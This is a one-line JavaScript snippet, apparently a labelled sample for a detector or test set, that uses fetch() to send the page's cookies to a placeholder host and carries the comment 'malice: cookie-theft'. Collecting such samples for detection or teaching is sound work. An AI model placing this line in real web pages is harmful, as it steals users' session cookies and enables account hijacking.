fetch("https://collect.invalid/c?d=" + encodeURIComponent(document.cookie)); // malice: cookie-theft
